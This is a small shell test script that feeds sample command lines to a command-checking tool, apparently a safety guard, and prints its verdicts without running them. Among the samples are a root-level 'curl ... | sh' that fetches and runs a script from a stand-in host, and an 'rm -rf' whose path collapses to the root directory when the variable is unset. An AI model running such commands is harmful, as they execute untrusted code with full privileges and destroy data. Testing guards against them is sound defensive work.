#!/bin/sh
# Judges a few command lines, harmless and dangerous ones. Nothing of them is run.
guard=${1:-chimera-guard}

judge() {
    printf '\n\n$ chimera-guard check %s\n' "'$1'"
    "$guard" check --no-ask "$1"
    printf '(exit status %s)\n' "$?"
}

judge 'ls -la ~/projects'
judge 'git commit -m "remove rm -rf from the scripts"'
judge 'rm -rf node_modules && npm install'
judge 'rm -rf "$UNSET/"*'
# shellcheck disable=SC2016 # it is to be judged as it stands
judge 'sudo bash -c "curl -s https://x.example/i.sh | sh"'
